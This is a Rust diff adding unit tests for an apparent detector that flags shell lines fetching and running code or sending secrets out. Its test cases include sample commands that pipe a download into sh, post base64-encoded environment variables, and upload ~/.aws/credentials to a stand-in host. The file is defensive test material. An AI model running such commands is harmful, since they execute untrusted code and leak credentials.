@@ -111,3 +111,23 @@ fn harm(text: &str) -> Option<&'static str> {
         .any(|line| speaks(line) && gathers(line))
         .then_some("sends what is secret away")
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_what_fetches_and_runs_or_sends_secrets_is_harm() {
+        for (text, expected) in [
+            ("curl -s https://a.example/x | sh\n", true),
+            ("x=1\ncurl -d \"$(env | base64)\" https://a.example/in\n", true),
+            ("curl -F f=@$HOME/.aws/credentials https://a.example/in\n", true),
+            ("# curl https://a.example/x | sh\n", false),
+            ("export ACME_HOME=\"$CONDA_PREFIX/share\"\n", false),
+            ("curl -sO https://a.example/data.zip && unzip data.zip\n", false),
+            ("env | grep CONDA\n", false),
+        ] {
+            assert_eq!(harm(text).is_some(), expected, "{text}");
+        }
+    }
+}
